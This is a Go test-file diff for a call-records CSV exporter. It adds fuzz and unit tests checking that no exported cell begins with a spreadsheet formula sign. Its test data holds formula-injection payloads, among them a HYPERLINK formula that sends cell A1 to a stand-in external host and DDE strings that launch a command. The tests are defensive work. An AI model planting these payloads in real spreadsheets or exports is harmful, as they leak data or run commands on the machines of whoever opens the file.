@@ -1,6 +1,8 @@
 package returns
 
 import (
+	"bytes"
+	"encoding/csv"
 	"slices"
 	"strings"
 	"testing"
@@ -12,6 +14,8 @@ import (
 var formulas = []string{
 	`=HYPERLINK("http://elsewhere.example/?"&A1,"見本")`, "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =cmd|'/C calc'!A0",
 	"　=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1+1", `="a"`,
+	// What the layout replaces makes a sign, or a blank before one.
+	"–1+cmd|'/C calc'!A0", "‑1+1", "\u00a0=1+1", "\u00a0–1", "\v=1+1", "\x00=1+1", "\u3000\u00a0\t‑1",
 }
 
 // TestFormulaInjectionInRecords: no cell of any file for the ward is one that a spreadsheet would run, whatever was noted, and whoever
@@ -25,7 +29,7 @@ func TestFormulaInjectionInRecords(t *testing.T) {
 			t.Fatal(err)
 		}
 		for i, cell := range readBack(t, file)[1] {
-			if _, ok := formulaSign(cell); ok {
+			if _, ok := dialer.FormulaSign(cell); ok {
 				t.Errorf("%q is run from column %s as %q", f, l.Columns[i].Header, cell)
 			}
 		}
@@ -41,18 +45,42 @@ func TestFormulaInjectionInRecords(t *testing.T) {
 	}
 }
 
-// FuzzParseLayout: whatever stands in the file, it is a layout that can write, or an error.
+// FuzzParseLayout: whatever stands in the file, it is a layout that can write, or an error; and whatever is noted, no cell of what it writes begins with a formula's
+// sign, but where the layout says to keep them.
 func FuzzParseLayout(f *testing.F) {
-	f.Add(builtIn)
-	f.Add([]byte(`{}`))
-	f.Add([]byte(`{"encoding":"cp932","columns":[{"header":"x","field":"ward_number"}]}`))
-	f.Fuzz(func(t *testing.T, text []byte) {
+	const least = `{"encoding":"cp932","columns":[{"header":"x","field":"ward_number"}]}`
+	replacing := strings.Replace(string(builtIn), `"replace": {`, `"replace": {"😀": "=", "🍎": "", "🍏": " ", `, 1)
+	for _, layout := range []string{string(builtIn), `{}`, least, replacing} {
+		for _, note := range append([]string{"あ\x00=\"", "😀1+1", "🍎=1", "🍏\u00a0😀"}, formulas...) {
+			f.Add([]byte(layout), note)
+		}
+	}
+	f.Fuzz(func(t *testing.T, text []byte, note string) {
 		l, err := ParseLayout(text)
 		if err != nil {
 			return
 		}
-		if _, _, err := l.Records([]Row{{WardNumber: "1", Direction: dialer.Outbound, Result: dialer.Busy, Note: "あ\x00=\""}}, ward{}, named); err != nil {
+		row := Row{WardNumber: note, Direction: dialer.Outbound, Result: dialer.Busy, Note: note, Operator: "operator1"}
+		if _, _, err := l.Records([]Row{row}, ward{}, named); err != nil {
 			t.Fatal(err)
+		}
+		file, _, err := l.Records([]Row{row}, legible{}, named)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, cell := range slices.Concat(rows...) {
+			if sign, ok := dialer.FormulaSign(cell); ok && l.Formulas != keepFormulas {
+				t.Errorf("%q begins with %q", cell, sign)
+			}
 		}
 	})
 }
+
+// legible has the ward's characters, and writes them so that a test can read them.
+type legible struct{ ward }
+
+func (legible) Encode(s string) ([]byte, error) { return []byte(s), nil }
